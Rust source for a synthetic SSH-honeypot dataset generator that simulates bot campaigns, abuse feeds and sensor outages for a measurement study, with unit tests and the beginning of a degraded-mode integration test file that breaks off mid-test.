//! supporting substrates (AS world, storage ecosystem, abuse feeds, IP
//! lists) and the generation ground truth used by validation tests.

use crate::archetype::{Archetype, BotCtx, MDRFCKR_KEY_LINE};
use crate::catalog::{catalog, study_end, study_start, CampaignSpec};
use crate::events::in_dip;
use crate::storage::{StorageConfig, StorageEcosystem, StorageStore};
use abusedb::{AbuseDb, CoverageConfig, FeedName, IpList, MalwareFamily};
use asdb::{GenConfig, SynthWorld};
use honeypot::{
    AuthPolicy, Collector, CollectorConfig, CollectorError, Fleet, IngestStats, OutageConfig,
    OutageSchedule, SessionInput, SessionRecord, SessionSim, SessionSink,
};
use hutil::rng::SeedTree;
use hutil::{Date, Sha256};
use netsim::ip::Ipv4Pool;
use netsim::latency::LatencyModel;
use netsim::Ipv4Addr;
use rand::rngs::StdRng;
use rand::Rng;
use std::collections::HashMap;

/// Fault-injection knobs for degraded-mode generation. The default
/// reproduces the paper's deployment: no modelled sensor downtime beyond
/// the documented maintenance window, and a fault-free collector.
#[derive(Debug, Clone)]
pub struct FaultProfile {
    /// Target fraction of per-sensor time down (beyond fleet maintenance).
    pub sensor_downtime: f64,
    /// Mean length of one sensor outage, in hours.
    pub mean_outage_hours: f64,
    /// Fraction of sensors that flap (many short outages).
    pub flap_frac: f64,
    /// Collector flush-failure probability per write.
    pub flush_failure_rate: f64,
    /// Collector retry-queue bound (`None` = unbounded).
    pub queue_capacity: Option<usize>,
    /// Collector retries per record before it is dropped.
    pub max_retries: u32,
}

impl Default for FaultProfile {
    fn default() -> Self {
        Self {
            sensor_downtime: 0.0,
            mean_outage_hours: 0.0,
            flap_frac: 0.0,
            flush_failure_rate: 0.0,
            queue_capacity: None,
            max_retries: 3,
        }
    }
}

impl FaultProfile {
    /// A degraded deployment: ≥10 % of sensor-days lost, a lossy
    /// collector channel with a small bounded retry queue.
    pub fn degraded() -> Self {
        Self {
            sensor_downtime: 0.12,
            mean_outage_hours: 36.0,
            flap_frac: 0.1,
            flush_failure_rate: 0.01,
            queue_capacity: Some(64),
            max_retries: 3,
        }
    }

    fn outage_config(&self) -> OutageConfig {
        OutageConfig {
            downtime_frac: self.sensor_downtime,
            mean_outage_hours: self.mean_outage_hours,
            flap_frac: self.flap_frac,
            include_maintenance: true,
        }
    }
}

/// Accounting of every session the bots attempted against what the frozen
/// dataset retains. The identity `attempted == recorded +
/// connection_failures + ingest.dropped + ingest.quarantined` holds for
/// every generated dataset, faulted or not.
#[derive(Debug, Clone, Copy, Default)]
pub struct FaultReport {
    /// Sessions the campaign schedule attempted.
    pub attempted: u64,
    /// Attempts against a down sensor: the TCP connect failed, nothing
    /// was recorded.
    pub connection_failures: u64,
    /// Collector-side fates (accepted == recorded sessions).
    pub ingest: IngestStats,
}

/// Generator knobs.
#[derive(Debug, Clone)]
pub struct DriverConfig {
    /// Root seed; everything derives from it.
    pub seed: u64,
    /// Paper sessions per generated session. 1 000 ⇒ ~635k sessions.
    pub session_scale: u64,
    /// Paper client IPs per pool IP (sub-linear scaling keeps unique-IP
    /// statistics meaningful at small session scales).
    pub ip_scale: u64,
    /// First day generated.
    pub window_start: Date,
    /// Last day generated.
    pub window_end: Date,
    /// Number of malware-storage IPs.
    pub storage_ips: usize,
    /// Fault injection (default: paper deployment, maintenance only).
    pub faults: FaultProfile,
}

impl DriverConfig {
    /// Default experiment scale (1:1000 sessions, 1:30 IPs).
    pub fn default_scale(seed: u64) -> Self {
        Self {
            seed,
            session_scale: 1_000,
            ip_scale: 30,
            window_start: study_start(),
            window_end: study_end(),
            storage_ips: 100, // ≈ paper's 3k at the 1:30 IP scale
            faults: FaultProfile::default(),
        }
    }

    /// A small scale for unit/integration tests (1:20 000 sessions).
    pub fn test_scale(seed: u64) -> Self {
        Self {
            seed,
            session_scale: 20_000,
            ip_scale: 300,
            window_start: study_start(),
            window_end: study_end(),
            storage_ips: 60,
            faults: FaultProfile::default(),
        }
    }
}

/// The generated dataset plus every substrate the analysis enriches with.
pub struct Dataset {
    /// All session records, chronologically sorted.
    pub sessions: Vec<SessionRecord>,
    /// The AS world (registry + populations).
    pub world: SynthWorld,
    /// The malware-hosting ecosystem.
    pub storage: StorageEcosystem,
    /// Abuse feeds built over the minted ground truth.
    pub abuse: AbuseDb,
    /// Killnet-style proxy blocklist (overlaps the mdrfckr pool).
    pub killnet: IpList,
    /// C2 feed containing the mdrfckr control hosts.
    pub c2_list: IpList,
    /// Generation ground truth: file hash → family.
    pub ground_truth: HashMap<String, MalwareFamily>,
    /// The sensor fleet.
    pub fleet: Fleet,
    /// Per-sensor availability over the window (maintenance + injected).
    pub outages: OutageSchedule,
    /// Accounting of attempted vs. recorded sessions.
    pub faults: FaultReport,
    /// Client-IP pools by campaign pool key (for validation).
    pub pools: HashMap<&'static str, Vec<Ipv4Addr>>,
    /// Per pool: the small self-hosting subset (clients in hosting ASes
    /// that serve payloads from their own address).
    pub self_hosters: HashMap<&'static str, Vec<Ipv4Addr>>,
    /// The configuration that produced all of the above.
    pub config: DriverConfig,
}

impl Dataset {
    /// SSH sessions only (what the paper analyses).
    pub fn ssh_sessions(&self) -> impl Iterator<Item = &SessionRecord> {
        self.sessions
            .iter()
            .filter(|s| s.protocol == honeypot::Protocol::Ssh)
    }

    /// SHA-256 (hex) of the planted mdrfckr authorized_keys content.
    pub fn mdrfckr_key_hash() -> String {
        Sha256::hex_digest(format!("{MDRFCKR_KEY_LINE}\n").as_bytes())
    }
}

/// Bernoulli-rounded scaling of a daily rate.
fn sample_count(rate: f64, rng: &mut StdRng) -> u64 {
    let base = rate.floor() as u64;
    let frac = rate - rate.floor();
    base + u64::from(rng.random::<f64>() < frac)
}

/// Generates the full dataset in memory (`Dataset::sessions` holds every
/// record).
pub fn generate_dataset(cfg: &DriverConfig) -> Dataset {
    generate_inner(cfg, None).expect("in-memory generation has no sink to fail")
}

/// Generates the dataset directly into `sink` — e.g. a
/// `sessiondb::StoreWriter` — without ever materializing the sessions in
/// memory. The returned [`Dataset`] carries every substrate and the fault
/// accounting, but `Dataset::sessions` is empty; analyses stream from the
/// sink's destination instead.
///
/// Generation is bit-identical to [`generate_dataset`] for the same
/// config: the sink only changes where accepted records land, not the
/// random sequence that produces them. Records reach the sink in
/// ingestion order — grouped by day, unsorted within one — whereas
/// `Dataset::sessions` is fully sorted at freeze time; order-sensitive
/// consumers should sort by `(start, session_id)`.
pub fn generate_dataset_into(
    cfg: &DriverConfig,
    sink: Box<dyn SessionSink>,
) -> Result<Dataset, CollectorError> {
    generate_inner(cfg, Some(sink))
}

fn generate_inner(
    cfg: &DriverConfig,
    sink: Option<Box<dyn SessionSink>>,
) -> Result<Dataset, CollectorError> {
    let seeds = SeedTree::new(cfg.seed);

    // --- substrates ------------------------------------------------------
    let mut as_cfg = GenConfig::paper_defaults(seeds.child("asdb").seed());
    as_cfg.window_start = cfg.window_start;
    as_cfg.window_end = cfg.window_end;
    let world = asdb::generate(&as_cfg);

    let fleet = {
        let asns = world.honeypot_asns.clone();
        let registry = &world.registry;
        Fleet::new(
            |i| {
                let asn = asns[i % asns.len()];
                let rec = registry.by_asn(asn).expect("honeypot AS exists");
                let prefix = rec.announcements[0].prefix;
                (asn, prefix.nth((10 + i / asns.len()) as u64))
            },
            Fleet::PAPER_SENSORS,
        )
    };

    let storage_cfg = StorageConfig {
        n_ips: cfg.storage_ips,
        window_start: cfg.window_start,
        window_end: cfg.window_end,
        ..StorageConfig::paper_defaults(cfg.window_start, cfg.window_end)
    };
    let storage = {
        let asns = world.storage_asns.clone();
        let registry = &world.registry;
        let mut per_as_counter: HashMap<u32, u64> = HashMap::new();
        let window_start = cfg.window_start;
        StorageEcosystem::new(&storage_cfg, seeds.child("storage"), move |_, rng| {
            let asn = asns[rng.random_range(0..asns.len())];
            let rec = registry.by_asn(asn).expect("storage AS exists");
            let ann = &rec.announcements[rng.random_range(0..rec.announcements.len())];
            let counter = per_as_counter.entry(asn).or_insert(1);
            *counter += 1;
            let idx = (*counter * 37) % ann.prefix.num_addrs().max(1);
            // Young ASes are put to use within months of registration
            // (Fig. 8a); established ones are used whenever.
            let preferred = if rec.registered >= window_start.plus_days(-365) {
                Some(rec.registered.plus_days(rng.random_range(20..120)))
            } else {
                None
            };
            (asn, ann.prefix.nth(idx), preferred)
        })
    };

    // --- client pools ------------------------------------------------------
    let client_prefixes: Vec<netsim::Prefix> = world
        .client_asns
        .iter()
        .filter_map(|asn| world.registry.by_asn(*asn))
        .flat_map(|r| r.announcements.iter().map(|a| a.prefix))
        .collect();
    let mut shared_pool = Ipv4Pool::new(client_prefixes);
    let mut pool_rng = seeds.rng("pools");
    let cat = catalog();
    let mut pools: HashMap<&'static str, Vec<Ipv4Addr>> = HashMap::new();
    for spec in &cat {
        if pools.contains_key(spec.pool) || spec.pool == "cred3245" {
            continue;
        }
        let size = if spec.pool_exact {
            spec.pool_size_paper
        } else {
            (spec.pool_size_paper / cfg.ip_scale).max(4)
        } as usize;
        let ips: Vec<Ipv4Addr> = (0..size)
            .map(|_| {
                shared_pool
                    .draw(&mut pool_rng)
                    .expect("client space exhausted")
            })
            .collect();
        pools.insert(spec.pool, ips);
    }
    // Self-hosting subsets: a few clients per pool, preferably ones inside
    // hosting ASes (paper: the 30 ISP entries are the minority of the 388
    // storage-AS census; most self-hosting machines are rented boxes).
    let mut self_hosters: HashMap<&'static str, Vec<Ipv4Addr>> = HashMap::new();
    for (key, ips) in &pools {
        let want = (ips.len() / 20).clamp(1, 6);
        let mut subset: Vec<Ipv4Addr> = ips
            .iter()
            .copied()
            .filter(|ip| {
                world
                    .registry
                    .lookup(*ip, cfg.window_start)
                    .is_some_and(|r| r.as_type == asdb::AsType::Hosting)
            })
            .take(want)
            .collect();
        if subset.is_empty() {
            subset.push(ips[0]);
        }
        self_hosters.insert(*key, subset);
    }

    // cred3245 overlaps the mdrfckr pool by 99.4 % (paper §9).
    {
        self_hosters.insert("cred3245", Vec::new());
        let mdr = pools.get("mdrfckr").expect("mdrfckr pool exists").clone();
        let want = ((125_000 / cfg.ip_scale).max(4) as usize).min(mdr.len());
        let fresh = ((want as f64 * 0.006).round() as usize).max(1);
        let mut ips: Vec<Ipv4Addr> = mdr[..want.saturating_sub(fresh)].to_vec();
        for _ in 0..fresh {
            ips.push(
                shared_pool
                    .draw(&mut pool_rng)
                    .expect("client space exhausted"),
            );
        }
        pools.insert("cred3245", ips);
    }

    // --- the day loop ------------------------------------------------------
    // Maintenance (2023-10-08/09) and any injected sensor downtime come
    // from one generic schedule; a session aimed at a down sensor is a
    // failed TCP connect, not a record.
    let outages = OutageSchedule::seeded(
        &cfg.faults.outage_config(),
        fleet.len(),
        cfg.window_start,
        cfg.window_end,
        seeds.child("outages").seed(),
    );
    let collector_cfg = CollectorConfig {
        queue_capacity: cfg.faults.queue_capacity,
        flush_failure_rate: cfg.faults.flush_failure_rate,
        max_retries: cfg.faults.max_retries,
        seed: seeds.child("collector").seed(),
    };
    let spilling = sink.is_some();
    let collector = match sink {
        Some(sink) => Collector::with_sink(collector_cfg, sink),
        None => Collector::with_config(collector_cfg),
    };
    let mut attempted = 0u64;
    let mut connection_failures = 0u64;
    let store = StorageStore::new(&storage, cfg.window_start);
    let policy = AuthPolicy::default();
    let latency = LatencyModel::new(seeds.child("latency").seed());
    let sim = SessionSim::new(policy, &store, latency);
    let mut rng = seeds.rng("driver");
    let mut b64_ip_cursor = 0usize;

    let mut day = cfg.window_start;
    while day <= cfg.window_end {
        store.set_today(day);
        for spec in &cat {
            let mut rate = spec.rate(day);
            if rate <= 0.0 {
                continue;
            }
            // mdrfckr dips: activity collapses by three orders of magnitude
            // during the documented event windows (§10).
            if matches!(
                spec.bot,
                Archetype::MdrfckrInitial | Archetype::MdrfckrVariant
            ) && in_dip(day)
            {
                rate *= 0.002;
            }
            let mut n = sample_count(rate / cfg.session_scale as f64, &mut rng);
            // The paper observed base64 uploads in *every* documented dip;
            // guarantee at least one per window regardless of scale.
            if spec.bot == Archetype::MdrfckrB64 && spec.windows.iter().any(|w| w.start == day) {
                n = n.max(1);
            }
            for _ in 0..n {
                let rec = run_one(
                    spec,
                    day,
                    &fleet,
                    &pools,
                    &self_hosters,
                    &sim,
                    &mut rng,
                    &storage,
                    &mut b64_ip_cursor,
                );
                attempted += 1;
                if outages.is_up(rec.honeypot_id, rec.start) {
                    collector.ingest(rec);
                } else {
                    connection_failures += 1;
                }
            }
        }
        day = day.plus_days(1);
    }

    // --- abuse intelligence over minted ground truth -----------------------
    let ground_truth = storage.ground_truth();
    let mut abuse = AbuseDb::from_ground_truth(
        ground_truth.iter().map(|(h, f)| (h.as_str(), *f)),
        &CoverageConfig::paper_defaults(),
        seeds.child("abuse").seed(),
    );
    // The mdrfckr key hash is famously labelled (paper §9).
    abuse.insert(
        FeedName::VirusTotal,
        &Dataset::mdrfckr_key_hash(),
        MalwareFamily::CoinMiner,
    );
    abuse.insert(
        FeedName::AbuseCh,
        &Dataset::mdrfckr_key_hash(),
        MalwareFamily::Malicious,
    );
    // 56 % of storage IPs are reported in IP-reputation feeds (§7).
    let mut abuse_rng = seeds.rng("abuse-ips");
    for s in storage.ips() {
        if abuse_rng.random::<f64>() < 0.56 {
            abuse.report_ip(s.ip);
        }
    }
    // Self-hosting clients are "malware loader IPs" too and get reported
    // at the same rate.
    for ips in self_hosters.values() {
        for ip in ips {
            if abuse_rng.random::<f64>() < 0.56 {
                abuse.report_ip(*ip);
            }
        }
    }

    // Killnet proxy list: 988 paper-scale IPs out of the mdrfckr pool, plus
    // unrelated entries.
    let mut killnet = IpList::new("KillNet DDoS Blocklist");
    {
        let mdr = &pools["mdrfckr"];
        let overlap = ((988 / cfg.ip_scale).max(2) as usize).min(mdr.len());
        for ip in mdr.iter().take(overlap) {
            killnet.add(*ip);
        }
        for _ in 0..overlap * 4 {
            if let Some(ip) = shared_pool.draw(&mut pool_rng) {
                killnet.add(ip);
            }
        }
    }
    let mut c2_list = IpList::new("C2-Daily-Feed");
    for ip in crate::archetype::mdrfckr_c2_ips() {
        c2_list.add(ip);
    }

    let (sessions, ingest) = if spilling {
        let (ingest, _quarantine) = collector.into_sink_parts()?;
        (Vec::new(), ingest)
    } else {
        let (sessions, ingest, _quarantine) = collector.into_parts();
        (sessions, ingest)
    };
    Ok(Dataset {
        sessions,
        world,
        storage,
        abuse,
        killnet,
        c2_list,
        ground_truth,
        fleet,
        outages,
        faults: FaultReport {
            attempted,
            connection_failures,
            ingest,
        },
        pools,
        self_hosters,
        config: cfg.clone(),
    })
}

#[allow(clippy::too_many_arguments)]
fn run_one(
    spec: &CampaignSpec,
    day: Date,
    fleet: &Fleet,
    pools: &HashMap<&'static str, Vec<Ipv4Addr>>,
    self_hosters: &HashMap<&'static str, Vec<Ipv4Addr>>,
    sim: &SessionSim<'_>,
    rng: &mut StdRng,
    storage: &StorageEcosystem,
    b64_ip_cursor: &mut usize,
) -> SessionRecord {
    let pool = &pools[spec.pool];
    let hosters = &self_hosters[spec.pool];
    let mut self_host = false;
    let client_ip = if spec.bot == Archetype::MdrfckrB64 {
        // Dispersed one-shot infrastructure: IPs are not reused (§9).
        let ip = pool[*b64_ip_cursor % pool.len()];
        *b64_ip_cursor += 1;
        ip
    } else if !hosters.is_empty() && rng.random::<f64>() < 0.16 {
        // Self-hosting clients account for ~20 % of download *events*
        // (paper §7) while staying a small, reused IP population (the
        // pick probability is lower because self-hosted downloads always
        // surface a URI, unlike e.g. scp-assumed loaders). Usage is
        // era-localised: a given box serves for a few months and is then
        // replaced, so its activity span stays bounded (Fig. 9).
        self_host = true;
        let epoch = Date::new(2021, 12, 1);
        let span = Date::new(2024, 8, 31).days_since(epoch).max(1);
        let era =
            (day.days_since(epoch).clamp(0, span - 1) as usize * hosters.len()) / span as usize;
        if rng.random::<f64>() < 0.9 {
            hosters[era.min(hosters.len() - 1)]
        } else {
            hosters[rng.random_range(0..hosters.len())]
        }
    } else {
        pool[rng.random_range(0..pool.len())]
    };
    let sensor_count = spec.sensor_limit.unwrap_or(fleet.len()).min(fleet.len());
    let sensor = fleet
        .get(rng.random_range(0..sensor_count) as u16)
        .expect("sensor index in range");
    // The 3245gs5662d34 campaign began at exactly 18:00 UTC on its first
    // day (§8); otherwise sessions spread across the day.
    let start_sec = if spec.bot == Archetype::Cred3245 && day == Date::new(2022, 12, 8) {
        18 * 3600 + rng.random_range(0..6 * 3600)
    } else {
        rng.random_range(0..86_400)
    };
    let mut ctx = BotCtx {
        rng,
        date: day,
        client_ip,
        self_host,
        storage,
    };
    let content = spec.bot.session(&mut ctx);
    let input = SessionInput {
        honeypot_id: sensor.id,
        honeypot_ip: sensor.ip,
        client_ip,
        client_port: 1024 + (rng.random_range(0..60_000u32) as u16 % 60_000),
        protocol: content.protocol,
        start: day.at_midnight().plus_secs(start_sec as i64),
        client_version: content.client_version,
        logins: content.logins,
        commands: content.commands,
        idle_out: content.idle_out,
    };
    sim.run(input)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> &'static Dataset {
        static DS: std::sync::OnceLock<Dataset> = std::sync::OnceLock::new();
        DS.get_or_init(|| generate_dataset(&DriverConfig::test_scale(42)))
    }

    #[test]
    fn generates_all_taxonomy_classes() {
        let ds = small();
        assert!(ds.sessions.len() > 10_000, "got {}", ds.sessions.len());
        let scanning = ds.ssh_sessions().filter(|s| s.logins.is_empty()).count();
        let scouting = ds
            .ssh_sessions()
            .filter(|s| !s.logins.is_empty() && !s.login_succeeded())
            .count();
        let intrusion = ds
            .ssh_sessions()
            .filter(|s| s.login_succeeded() && s.commands.is_empty())
            .count();
        let cmd_exec = ds
            .ssh_sessions()
            .filter(|s| s.login_succeeded() && !s.commands.is_empty())
            .count();
        assert!(scanning > 0 && scouting > 0 && intrusion > 0 && cmd_exec > 0);
        // Paper ordering: scouting > command-exec > intrusion > scanning.
        assert!(scouting > cmd_exec, "scouting {scouting} vs cmd {cmd_exec}");
        assert!(
            cmd_exec > intrusion,
            "cmd {cmd_exec} vs intrusion {intrusion}"
        );
        assert!(
            intrusion > scanning,
            "intrusion {intrusion} vs scanning {scanning}"
        );
    }

    #[test]
    fn dataset_is_chronological_and_in_window() {
        let ds = small();
        for pair in ds.sessions.windows(2) {
            assert!(pair[0].start <= pair[1].start);
        }
        // An empty dataset is vacuously chronological and in-window; the
        // bounds only apply to sessions that exist.
        if let (Some(first), Some(last)) = (ds.sessions.first(), ds.sessions.last()) {
            assert!(first.start.date() >= Date::new(2021, 12, 1));
            assert!(last.start.date() <= Date::new(2024, 8, 31));
        }
        assert!(
            !ds.sessions.is_empty(),
            "test scale should produce sessions"
        );
    }

    #[test]
    fn sink_mode_matches_in_memory_generation() {
        use std::sync::{Arc, Mutex};
        struct VecSink(Arc<Mutex<Vec<SessionRecord>>>);
        impl SessionSink for VecSink {
            fn append(&mut self, rec: &SessionRecord) -> Result<(), honeypot::SinkError> {
                self.0.lock().expect("sink lock").push(rec.clone());
                Ok(())
            }
        }
        let mut cfg = DriverConfig::test_scale(11);
        cfg.window_start = Date::new(2022, 3, 1);
        cfg.window_end = Date::new(2022, 4, 30);
        let mem = generate_dataset(&cfg);
        let collected = Arc::new(Mutex::new(Vec::new()));
        let ds = generate_dataset_into(&cfg, Box::new(VecSink(collected.clone()))).unwrap();
        assert!(
            ds.sessions.is_empty(),
            "sink mode must not materialize sessions"
        );
        // The sink sees ingestion order; `Dataset::sessions` is sorted
        // chronologically at freeze time. Same sort key ⇒ same dataset.
        let mut spilled = collected.lock().expect("sink lock").clone();
        spilled.sort_by_key(|r| (r.start, r.session_id));
        assert_eq!(spilled.len(), mem.sessions.len());
        assert_eq!(spilled, mem.sessions, "sink mode must be bit-identical");
        assert_eq!(ds.faults.ingest.accepted, mem.faults.ingest.accepted);
    }

    #[test]
    fn huge_scale_yields_empty_but_valid_dataset() {
        // A scale factor so large no campaign ever rounds up to a session.
        // The window avoids every mdrfckr dip start day, since base64
        // uploads are forced to at least one session on those days
        // regardless of scale.
        let mut cfg = DriverConfig::test_scale(42);
        cfg.session_scale = u64::MAX;
        cfg.window_start = Date::new(2022, 5, 1);
        cfg.window_end = Date::new(2022, 5, 7);
        let ds = generate_dataset(&cfg);
        assert!(ds.sessions.is_empty(), "got {} sessions", ds.sessions.len());
        // The report still balances and every substrate is intact.
        let f = &ds.faults;
        assert_eq!(f.ingest.accepted, 0);
        assert_eq!(
            f.attempted,
            f.connection_failures + f.ingest.dropped + f.ingest.quarantined
        );
        assert!(!ds.pools.is_empty());
        assert_eq!(ds.ssh_sessions().count(), 0);
    }

    #[test]
    fn maintenance_window_is_empty() {
        let ds = small();
        let n = ds
            .sessions
            .iter()
            .filter(|s| {
                let d = s.start.date();
                d == Date::new(2023, 10, 8) || d == Date::new(2023, 10, 9)
            })
            .count();
        assert_eq!(n, 0, "no sessions during maintenance");
        // The maintenance outage comes from the generic schedule, not a
        // special case: every sensor reads as down mid-window.
        let mid = Date::new(2023, 10, 8).at(12, 0, 0);
        assert!((0..ds.fleet.len() as u16).all(|s| !ds.outages.is_up(s, mid)));
    }

    #[test]
    fn default_profile_accounting_balances() {
        let ds = small();
        let f = &ds.faults;
        assert_eq!(
            f.attempted,
            ds.sessions.len() as u64
                + f.connection_failures
                + f.ingest.dropped
                + f.ingest.quarantined
        );
        // Default profile: the only losses are maintenance connects.
        assert_eq!(f.ingest.dropped, 0);
        assert_eq!(f.ingest.quarantined, 0);
        assert!(f.connection_failures > 0, "maintenance-day attempts fail");
    }

    #[test]
    fn generation_is_deterministic() {
        let a = generate_dataset(&DriverConfig::test_scale(7));
        let b = generate_dataset(&DriverConfig::test_scale(7));
        assert_eq!(a.sessions.len(), b.sessions.len());
        for (x, y) in a.sessions.iter().zip(&b.sessions).step_by(97) {
            assert_eq!(x.start, y.start);
            assert_eq!(x.client_ip, y.client_ip);
            assert_eq!(x.command_text(), y.command_text());
        }
        assert_eq!(a.ground_truth.len(), b.ground_truth.len());
    }

    #[test]
    fn mdrfckr_dips_are_visible() {
        let ds = small();
        let daily = |d: Date| {
            ds.sessions
                .iter()
                .filter(|s| s.start.date() == d && s.command_text().contains("mdrfckr"))
                .count()
        };
        // Average over a dip window vs. neighbouring normal days.
        let dip: usize = (0..7)
            .map(|i| daily(Date::new(2022, 10, 10).plus_days(i)))
            .sum();
        let normal: usize = (0..7)
            .map(|i| daily(Date::new(2022, 11, 10).plus_days(i)))
            .sum();
        assert!(normal > 5, "normal week too quiet: {normal}");
        assert!(
            dip * 5 < normal,
            "dip {dip} not clearly below normal {normal}"
        );
    }

    #[test]
    fn cred3245_overlaps_mdrfckr_pool() {
        let ds = small();
        let mdr: std::collections::HashSet<_> = ds.pools["mdrfckr"].iter().collect();
        let c32 = &ds.pools["cred3245"];
        let overlap = c32.iter().filter(|ip| mdr.contains(ip)).count() as f64 / c32.len() as f64;
        assert!(overlap > 0.95, "overlap {overlap}");
        assert!(overlap < 1.0, "a few fresh IPs expected");
    }

    #[test]
    fn killnet_overlap_exists() {
        let ds = small();
        let overlap = ds.killnet.overlap_count(ds.pools["mdrfckr"].iter());
        assert!(overlap >= 2, "killnet overlap {overlap}");
    }

    #[test]
    fn some_downloads_succeed_and_hash() {
        let ds = small();
        let with_hashes = ds
            .ssh_sessions()
            .filter(|s| s.dropped_hashes().next().is_some())
            .count();
        assert!(
            with_hashes > 50,
            "sessions with dropped files: {with_hashes}"
        );
        assert!(!ds.ground_truth.is_empty());
        // Abuse coverage is partial (paper: <5 %), never total.
        let labelled = ds
            .ground_truth
            .keys()
            .filter(|h| ds.abuse.lookup(h).is_some())
            .count();
        assert!(labelled * 10 < ds.ground_truth.len(), "coverage too high");
    }

    #[test]
    fn file_missing_sessions_exist() {
        let ds = small();
        let missing = ds.ssh_sessions().filter(|s| s.has_missing_exec()).count();
        let exists = ds
            .ssh_sessions()
            .filter(|s| s.exec_hashes().next().is_some())
            .count();
        assert!(
            missing > exists,
            "missing {missing} should outnumber exists {exists}"
        );
    }

    #[test]
    fn curl_maxred_clients_are_four_and_sensor_limited() {
        let ds = small();
        let curl_sessions: Vec<_> = ds
            .ssh_sessions()
            .filter(|s| s.command_text().contains("--max-redirs"))
            .collect();
        assert!(!curl_sessions.is_empty());
        let clients: std::collections::HashSet<_> =
            curl_sessions.iter().map(|s| s.client_ip).collect();
        assert!(clients.len() <= 4);
        let sensors: std::collections::HashSet<_> =
            curl_sessions.iter().map(|s| s.honeypot_id).collect();
        assert!(sensors.iter().all(|&id| (id as usize) < 180));
    }

    #[test]
    fn phil_logins_present_and_commandless() {
        let ds = small();
        let phil: Vec<_> = ds
            .ssh_sessions()
            .filter(|s| s.logins.iter().any(|l| l.username == "phil"))
            .collect();
        assert!(!phil.is_empty());
        assert!(phil.iter().all(|s| s.commands.is_empty()));
        assert!(phil.iter().all(|s| s.login_succeeded()));
        // richard attempts always fail (presence at this tiny test scale
        // is probabilistic; the integration suite asserts presence at a
        // larger scale).
        let richard: Vec<_> = ds
            .ssh_sessions()
            .filter(|s| s.logins.iter().any(|l| l.username == "richard"))
            .collect();
        assert!(richard.iter().all(|s| !s.login_succeeded()));
    }
}
