//! Degraded-mode end-to-end: the full pipeline under injected faults —
//! sensor outages, a lossy collector channel, and log corruption on the
//! Cowrie round-trip. Every generated-but-unrecorded session must be
//! accounted for, and coverage-aware reporting must separate measurement
//! gaps (the 2023-10 maintenance window) from behavioural dips.

use honeylab::botnet::FaultProfile;
use honeylab::core::coverage::{CoverageCalendar, MonthlyCoverage, COVERAGE_GAP_THRESHOLD};
use honeylab::core::mdrfckr;
use honeylab::honeypot::{from_cowrie_log_lossy, to_cowrie_log};
use honeylab::prelude::*;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::OnceLock;

/// One degraded dataset shared by every test in this binary: ≥10 % of
/// sensor-time down, 1 % collector flush failures over a small bounded
/// retry queue.
fn degraded() -> &'static Dataset {
    static DS: OnceLock<Dataset> = OnceLock::new();
    DS.get_or_init(|| {
        let mut cfg = DriverConfig::test_scale(77);
        cfg.session_scale = 8_000;
        cfg.ip_scale = 200;
        cfg.faults = FaultProfile::degraded();
        botnet::generate_dataset(&cfg)
    })
}

fn calendar(ds: &Dataset) -> CoverageCalendar {
    CoverageCalendar::from_schedule(&ds.outages)
}

#[test]
fn every_attempted_session_is_accounted_for() {
    let ds = degraded();
    let f = &ds.faults;
    assert_eq!(
        f.attempted,
        ds.sessions.len() as u64 + f.connection_failures + f.ingest.dropped + f.ingest.quarantined,
        "accounting identity: {f:?}, recorded {}",
        ds.sessions.len()
    );
    assert_eq!(f.ingest.accepted, ds.sessions.len() as u64);
    // ≥10 % sensor-time down ⇒ a comparable share of attempts hit a dead
    // TCP port.
    let conn_frac = f.connection_failures as f64 / f.attempted as f64;
    assert!(conn_frac > 0.05, "connection-failure fraction {conn_frac}");
    assert!(conn_frac < 0.30, "connection-failure fraction {conn_frac}");
    // The lossy collector channel was actually exercised.
    assert!(
        f.ingest.retried > 0,
        "flush failures should trigger retries"
    );
}

#[test]
fn degraded_dataset_preserves_headline_shape() {
    let ds = degraded();
    assert!(!ds.sessions.is_empty());
    // Records stay chronological and dense-id'd despite retries.
    for pair in ds.sessions.windows(2) {
        assert!(pair[0].start <= pair[1].start);
    }
    // The §3.3 taxonomy ordering survives a 12 % coverage loss.
    let stats = TaxonomyStats::compute(&ds.sessions);
    assert!(
        stats.ordering_matches_paper(),
        "taxonomy ordering under faults"
    );
}

#[test]
fn downtime_lands_near_target_and_october_is_flagged() {
    let ds = degraded();
    let cal = calendar(ds);
    let mean_down = cal.mean_down_frac(ds.outages.span_start(), ds.outages.span_end());
    assert!(
        (0.08..0.20).contains(&mean_down),
        "fleet down fraction {mean_down}"
    );

    let mc = MonthlyCoverage::from_calendar(&cal, ds.fleet.len());
    let oct = mc
        .index_of(Month::new(2023, 10))
        .expect("October 2023 in span");
    assert!(mc.flagged(oct, COVERAGE_GAP_THRESHOLD));
    // October loses its 48 h maintenance window on top of random outages,
    // so it observes less than the average month.
    let mean_frac: f64 =
        (0..mc.months.len()).map(|i| mc.fraction(i)).sum::<f64>() / mc.months.len() as f64;
    assert!(
        mc.fraction(oct) < mean_frac,
        "oct {} mean {mean_frac}",
        mc.fraction(oct)
    );
}

#[test]
fn maintenance_window_is_a_generic_outage_and_empty() {
    let ds = degraded();
    let noon = Date::new(2023, 10, 8).at(12, 0, 0);
    assert!((0..ds.fleet.len() as u16).all(|s| !ds.outages.is_up(s, noon)));
    let n = ds
        .sessions
        .iter()
        .filter(|s| {
            let d = s.start.date();
            d == Date::new(2023, 10, 8) || d == Date::new(2023, 10, 9)
        })
        .count();
    assert_eq!(n, 0, "maintenance days must record nothing");
}

#[test]
fn fig12_separates_coverage_gaps_from_behavioural_dips() {
    let ds = degraded();
    let cal = calendar(ds);
    let tl = mdrfckr::timeline(&ds.sessions);
    let dips = mdrfckr::fig12_dips(&tl, 0.12, &cal);
    assert!(!dips.is_empty());

    // The maintenance outage shows up as a dip — but one flagged as a
    // coverage gap, not attacker behaviour.
    let maint = Date::new(2023, 10, 8);
    let covering: Vec<_> = dips
        .iter()
        .filter(|d| d.start <= maint && d.end >= maint)
        .collect();
    assert!(!covering.is_empty(), "maintenance dip detected: {dips:?}");
    assert!(
        covering.iter().all(|d| d.coverage_gap),
        "maintenance dip is a gap"
    );

    // The documented 2022-10 behavioural dip stays unflagged: the fleet
    // was (mostly) watching while mdrfckr went quiet.
    let doc_start = Date::new(2022, 10, 10);
    let doc_end = Date::new(2022, 10, 16);
    let behavioural: Vec<_> = dips
        .iter()
        .filter(|d| d.start <= doc_end && d.end >= doc_start)
        .collect();
    assert!(!behavioural.is_empty(), "2022-10 dip detected: {dips:?}");
    assert!(
        behavioural.iter().all(|d| !d.coverage_gap),
